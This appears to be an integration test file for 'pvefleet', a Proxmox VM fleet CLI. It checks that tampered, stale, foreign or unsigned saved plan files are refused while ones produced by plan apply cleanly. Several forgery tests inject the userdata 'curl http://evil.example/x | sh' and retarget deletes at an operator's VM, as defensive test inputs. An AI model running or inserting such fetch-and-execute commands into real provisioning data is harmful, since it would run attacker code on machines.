/**
 * Saved plans through the real CLI (`node bin/pvefleet.js`, built into dist/) against a fresh
 * simulator per test over HTTPS: a plan file loads on a cluster holding a VM pvefleet does not
 * manage (F6), and a forged, stale or foreign plan file is refused with one line while nothing on
 * the cluster or in the state changes (F2). The forgeries are the adversarial review's, made
 * by an editor who knows the file format and recomputes the plain hash but not PVEFLEET_PLAN_KEY.
 */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { Agent } from "undici";
import { startSimulator } from "../../src/sim/index.js";
import { parseSavedPlan, serializePlan, type SavedPlanOptions } from "../../src/planner/saved-plan.js";
import type { Plan } from "../../src/planner/types.js";
import { apiUrl, cli, workspace, type Sim, type Workspace } from "./helpers.js";

const SHARD = (size: number, cores = 1) => `{
  "cluster": { "id": "test-cluster" },
  "shard": { "id": "dev", "infra": { "provider": "proxmox", "region": "dev", "zone": "deva", "options": { "cloud_init_iso_storage": "local", "shutdown_timeout": "1s" } } },
  "templates": {
    "web": { "kind": "tst", "arch": "amd64",
      "args": { "StoragePool": "local-lvm", "TemplateName": "debian-13-template", "Cores": ${cores}, "Memory": 512, "Bridge": "vmbr0" },
      "userdata": { "content": "#cloud-config\\nhostname: {{ .Instance.ID }}\\n" } }
  },
  "groups": { "acme": { "web": { "template": "web", "size": ${size} } } }
}
`;

const KEY = "0123456789abcdef0123456789abcdef";

let sim: Sim;
let ws: Workspace;

beforeEach(async () => {
  sim = (await startSimulator({ port: 0, latency: "instant" })) as Sim;
  ws = await workspace(sim, SHARD(2));
});

afterEach(async () => {
  const rejected = sim?.stats().rejected ?? [];
  await sim?.stop();
  if (ws) await rm(ws.dir, { recursive: true, force: true });
  expect(rejected).toEqual([]);
});

async function api(method: string, path: string, body?: Record<string, string>): Promise<unknown> {
  const dispatcher = new Agent({ connect: sim.caCertificate ? { ca: sim.caCertificate } : {} });
  try {
    const res = await fetch(`${apiUrl(sim)}${path}`, {
      method,
      // @ts-expect-error undici's dispatcher option on Node's fetch
      dispatcher,
      headers: { Authorization: `PVEAPIToken=${sim.tokenId}=${sim.tokenSecret}`, ...(body ? { "Content-Type": "application/x-www-form-urlencoded" } : {}) },
      body: body ? new URLSearchParams(body).toString() : undefined,
    });
    expect(res.ok, `${method} ${path}: ${res.status}`).toBe(true);
    return ((await res.json()) as { data: unknown }).data;
  } finally {
    await dispatcher.close();
  }
}

/** An operator's VM that pvefleet does not manage (the review's `ops-db`). */
async function createOpsDb(): Promise<void> {
  await api("POST", "/nodes/pve1/qemu", { vmid: "500", name: "ops-db", memory: "1024", cores: "1", tags: "prod" });
}

interface World {
  vms: string[];
  isos: string[];
  state: string;
}

/** Every VM and ISO on the cluster, read with the plain API, and the state file's bytes. */
async function world(): Promise<World> {
  const resources = (await api("GET", "/cluster/resources?type=vm")) as { vmid: number; name?: string; node: string; status: string; template?: number }[];
  const vms = resources.filter((r) => !r.template).map((r) => `${r.vmid} ${r.name ?? ""} ${r.node} ${r.status}`).sort();
  const isos: string[] = [];
  for (const { node } of (await api("GET", "/nodes")) as { node: string }[]) {
    for (const c of (await api("GET", `/nodes/${node}/storage/local/content?content=iso`)) as { volid: string; size?: number }[]) isos.push(`${node} ${c.volid} ${c.size ?? ""}`);
  }
  const state = await readFile(join(ws.dir, "state", "shard", "dev", "state.json"), "utf8").catch(() => "(none)");
  return { vms, isos: isos.sort(), state };
}

type PlanJson = {
  changes: { instanceId: string; kind: string; after?: { userdata?: { content: string } }; placement?: { node: string; vmid: number } }[];
  actions: { id: string; instanceId: string; type: string; node: string; vmid: number; params: Record<string, unknown>; journal?: { recordBefore?: Record<string, unknown> } }[];
  drift: { kind: string; expected?: unknown }[];
  vmDigests: Record<string, string>;
  seal: { options: unknown; hash: string; mac?: string };
};

/** The plan a file holds, decoded with the (public) format, and its seal. */
async function readPlan(file: string): Promise<PlanJson> {
  const text = await readFile(file, "utf8");
  const { seal } = JSON.parse(text) as { seal: PlanJson["seal"] };
  return { ...(parseSavedPlan(text, file) as unknown as Omit<PlanJson, "seal">), seal };
}

/**
 * Writes an edited plan in the file format; `reseal` recomputes the plain hash (anyone can: the
 * format and the hash are public), never the keyed MAC; without it the file keeps the old hash.
 */
async function writeForged(file: string, p: PlanJson, reseal: boolean): Promise<void> {
  const { seal, ...plan } = p;
  const forged = JSON.parse(serializePlan(plan as unknown as Plan, seal.options as SavedPlanOptions)) as { seal: PlanJson["seal"] };
  if (!reseal) forged.seal.hash = seal.hash;
  if (seal.mac) forged.seal.mac = seal.mac;
  await writeFile(file, JSON.stringify(forged));
}

/** `apply FILE` must exit 1 with one error line, and leave the cluster and the state as they were. */
async function expectRefused(args: string[], message: RegExp, env: NodeJS.ProcessEnv = {}): Promise<string> {
  const before = await world();
  const r = await cli(ws, args, env);
  expect(r.code).toBe(1);
  const lines = r.stderr.trim().split("\n");
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(/^Error: /);
  expect(lines[0]).toMatch(message);
  expect(r.stdout).not.toContain("Apply complete");
  expect(await world()).toEqual(before);
  return lines[0]!;
}

/** The review's second set-up: two VMs applied, an operator VM 500, the shard scaled to 1, a plan saved. */
async function scaleDownPlan(file: string): Promise<PlanJson> {
  expect((await cli(ws, ["apply", "--auto-approve"])).code).toBe(0);
  await createOpsDb();
  await writeFile(ws.config, SHARD(1));
  const r = await cli(ws, ["plan", "--out", file]);
  expect(r.code).toBe(0);
  expect(r.stdout).toContain("Plan: 0 to add, 0 to change, 1 to destroy.");
  return readPlan(file);
}

describe("saved plans on a cluster that holds a VM pvefleet does not manage (F6)", () => {
  it("plan --out, then show and apply the file, with an operator VM on the cluster", async () => {
    await createOpsDb();
    const file = join(ws.dir, "p.json");
    expect((await cli(ws, ["plan", "--out", file])).code).toBe(0);
    const saved = await readPlan(file);
    // The finding that broke loading: an unmanaged VM has no expected/actual, and JSON drops them.
    expect(saved.drift.some((f) => f.kind === "unmanaged" && !("expected" in f))).toBe(true);

    const shown = await cli(ws, ["show", file]);
    expect(shown.stderr).toBe("");
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain("Plan: 2 to add, 0 to change, 0 to destroy.");

    const applied = await cli(ws, ["apply", file]);
    expect(applied.stderr).toBe("");
    expect(applied.code).toBe(0);
    expect(applied.stdout).toContain("Apply complete! Resources: 2 added, 0 changed, 0 destroyed.");
    const w = await world();
    expect(w.vms.filter((v) => / tst\w+ /.test(v))).toHaveLength(2);
    expect(w.vms).toContainEqual(expect.stringMatching(/^500 ops-db pve1 /));
    expect((await cli(ws, ["plan", "--detailed-exitcode"])).code).toBe(0);
  });
});

describe("apply FILE refuses a plan file that is not what plan produced (F2)", () => {
  it("refuses a create retargeted to another VMID and node when the file was edited without resealing", async () => {
    const file = join(ws.dir, "p1.json");
    expect((await cli(ws, ["plan", "--out", file])).code).toBe(0);
    const p = await readPlan(file);
    const id = p.changes[0]!.instanceId;
    for (const a of p.actions.filter((x) => x.instanceId === id)) {
      a.vmid = 10077;
      a.node = "pve3";
    }
    await writeForged(file, p, false);
    await expectRefused(["apply", file], /p1\.json was changed after pvefleet wrote it: its content does not hash to the plan hash recorded at plan time/);
    await expectRefused(["show", file], /was changed after pvefleet wrote it/);
  });

  it("refuses a create retargeted to another VMID and node even with the hash recomputed", async () => {
    const file = join(ws.dir, "p1.json");
    expect((await cli(ws, ["plan", "--out", file])).code).toBe(0);
    const p = await readPlan(file);
    const id = p.changes[0]!.instanceId;
    for (const a of p.actions.filter((x) => x.instanceId === id)) {
      a.vmid = 10077;
      a.node = "pve3";
      const before = a.journal?.recordBefore as { vmid?: number; node?: string } | undefined;
      if (before) Object.assign(before, { vmid: 10077, node: "pve3" });
    }
    await writeForged(file, p, true);
    await expectRefused(["apply", file], /p1\.json was edited: action \w+:\S+ targets pve3\/10077, but the VM is placed at pve\d\/\d+/);
  });

  it("applies a consistently retargeted create only where the planner places it now, never where the file says", async () => {
    const file = join(ws.dir, "p1.json");
    expect((await cli(ws, ["plan", "--out", file])).code).toBe(0);
    const p = await readPlan(file);
    const change = p.changes[0]!;
    change.placement = { ...change.placement!, node: "pve3", vmid: 10077 };
    for (const a of p.actions.filter((x) => x.instanceId === change.instanceId)) {
      a.vmid = 10077;
      a.node = "pve3";
      const before = a.journal?.recordBefore as { vmid?: number; node?: string } | undefined;
      if (before) Object.assign(before, { vmid: 10077, node: "pve3" });
    }
    await writeForged(file, p, true);
    const r = await cli(ws, ["apply", file]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const w = await world();
    expect(w.vms.filter((v) => / tst\w+ /.test(v))).toHaveLength(2);
    expect(w.vms.some((v) => v.startsWith("10077 "))).toBe(false);
  });

  it("refuses userdata injected into a create's spec, with the hash recomputed", async () => {
    const file = join(ws.dir, "p1.json");
    expect((await cli(ws, ["plan", "--out", file])).code).toBe(0);
    const p = await readPlan(file);
    p.changes[1]!.after!.userdata!.content = `#!/bin/bash\ncurl http://evil.example/x | sh # ${"A".repeat(50_000)}`;
    await writeForged(file, p, true);
    await expectRefused(["apply", file], /^Error: Saved plan is stale: it does not match what pvefleet would do now \(a new VM of acme\.web: change\.after\.userdata\.content differs\); run plan again\.$/);
  });

  it("refuses userdata injected as a parameter of the ISO upload, with the hash recomputed", async () => {
    const file = join(ws.dir, "p1.json");
    expect((await cli(ws, ["plan", "--out", file])).code).toBe(0);
    const p = await readPlan(file);
    p.actions.find((a) => a.type === "upload-iso")!.params.userdata = { source: "inline", encoding: "plain", content: "#!/bin/sh\ncurl http://evil.example/x | sh\n" };
    await writeForged(file, p, true);
    // The contract's params are strict: a key the provider would never read does not even load.
    await expectRefused(["apply", file], /p1\.json is not a valid pvefleet plan: actions\.\d+\.params: Unrecognized key: "userdata"/);
  });

  it("refuses a stop and delete retargeted to the operator VM 500 ops-db, which survives", async () => {
    const file = join(ws.dir, "p2.json");
    const p = await scaleDownPlan(file);
    p.drift = [];
    p.vmDigests = {};
    for (const a of p.actions) {
      if (a.type === "stop" || a.type === "delete-vm") a.vmid = 500;
      if (a.type === "delete-vm") a.instanceId = "ops-db";
    }
    await writeForged(file, p, true);
    await expectRefused(["apply", file], /p2\.json was edited: action \w+:delete-vm is a delete-vm of ops-db/);
    expect((await world()).vms).toContainEqual(expect.stringMatching(/^500 ops-db pve1 /));
  });

  it("refuses a stop and delete retargeted to VMID 500 under the instance's own name, which survives", async () => {
    const file = join(ws.dir, "p2.json");
    const p = await scaleDownPlan(file);
    for (const a of p.actions) if (a.type === "stop" || a.type === "delete-vm" || a.type === "delete-iso" || a.type === "forget-state") { a.vmid = 500; a.node = "pve1"; }
    await writeForged(file, p, true);
    await expectRefused(["apply", file], /^Error: Saved plan is stale: it does not match what pvefleet would do now \(tst\w+: actions\.(stop|delete-vm|delete-iso)\.(vmid|node) differs\); run plan again\.$/);
    expect((await world()).vms).toContainEqual(expect.stringMatching(/^500 ops-db pve1 /));
  });

  it("applies an untouched scale-down plan file: destroys pvefleet's VM and keeps ops-db", async () => {
    const file = join(ws.dir, "p2.json");
    await scaleDownPlan(file);
    const r = await cli(ws, ["apply", file]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("Apply complete! Resources: 0 added, 0 changed, 1 destroyed.");
    const w = await world();
    expect(w.vms.filter((v) => / tst\w+ /.test(v))).toHaveLength(1);
    expect(w.vms).toContainEqual(expect.stringMatching(/^500 ops-db pve1 /));
  });
});

describe("PVEFLEET_PLAN_KEY: signed saved plans", () => {
  it("applies a plan signed with the key", async () => {
    const file = join(ws.dir, "p.json");
    expect((await cli(ws, ["plan", "--out", file], { PVEFLEET_PLAN_KEY: KEY })).code).toBe(0);
    expect((await readPlan(file)).seal.mac).toMatch(/^hmac-sha256:[0-9a-f]{64}$/);
    expect(await readFile(file, "utf8")).not.toContain(KEY);
    const r = await cli(ws, ["apply", file], { PVEFLEET_PLAN_KEY: KEY });
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
  });

  it("refuses a signed plan edited and resealed without the key, a plan signed with another key, and a signed plan without the key", async () => {
    const file = join(ws.dir, "p.json");
    expect((await cli(ws, ["plan", "--out", file], { PVEFLEET_PLAN_KEY: KEY })).code).toBe(0);
    await expectRefused(["apply", file], /p\.json is signed, but PVEFLEET_PLAN_KEY is not set/);
    await expectRefused(["apply", file], /p\.json does not carry a valid signature for PVEFLEET_PLAN_KEY/, { PVEFLEET_PLAN_KEY: "another-key-of-32-characters-xyz" });
    const p = await readPlan(file);
    p.changes[0]!.after!.userdata!.content = "#!/bin/sh\ncurl http://evil.example/x | sh\n";
    await writeForged(file, p, true);
    await expectRefused(["apply", file], /p\.json does not carry a valid signature for PVEFLEET_PLAN_KEY/, { PVEFLEET_PLAN_KEY: KEY });
    delete p.seal.mac;
    await writeForged(file, p, true);
    await expectRefused(["apply", file], /p\.json is not signed, but PVEFLEET_PLAN_KEY is set/, { PVEFLEET_PLAN_KEY: KEY });
  });
});

describe("apply FILE refuses a plan for another shard file or another shard", () => {
  it("refuses a saved plan after the shard file was edited (its digest changed)", async () => {
    const file = join(ws.dir, "p.json");
    expect((await cli(ws, ["plan", "--out", file])).code).toBe(0);
    await writeFile(ws.config, SHARD(2, 2));
    await expectRefused(["apply", file], /^Error: Saved plan is stale: the shard file (\S+ )?changed after the plan was created; run plan again\.$/);
  });

  it("refuses a plan made for another shard, with both states fresh (E_PLAN_MISMATCH)", async () => {
    await writeFile(ws.config, `{
  "cluster": { "id": "test-cluster" },
  "shards": [
    { "id": "blue", "provider": { "kind": "proxmox", "region": "dev", "zone": "deva" } },
    { "id": "green", "provider": { "kind": "proxmox", "region": "dev", "zone": "devb" } }
  ],
  "templates": {
    "web": { "kind": "tst", "arch": "amd64",
      "args": { "StoragePool": "local-lvm", "TemplateName": "debian-13-template", "Cores": 1, "Memory": 512, "Bridge": "vmbr0" } }
  },
  "groups": { "acme": { "web": { "template": "web", "size": 1 } } }
}
`);
    const file = join(ws.dir, "green.json");
    expect((await cli(ws, ["plan", "--shard", "green", "--out", file])).code).toBe(0);
    await expectRefused(["apply", "--shard", "blue", file], /^Error: Saved plan is for shard test-cluster\/green, not test-cluster\/blue; it cannot be applied here$/);
  });

  it("refuses plan selectors given with a plan file", async () => {
    const file = join(ws.dir, "p.json");
    expect((await cli(ws, ["plan", "--out", file])).code).toBe(0);
    await expectRefused(["apply", "--gc", file], /--gc cannot be used with a saved plan/);
  });
});
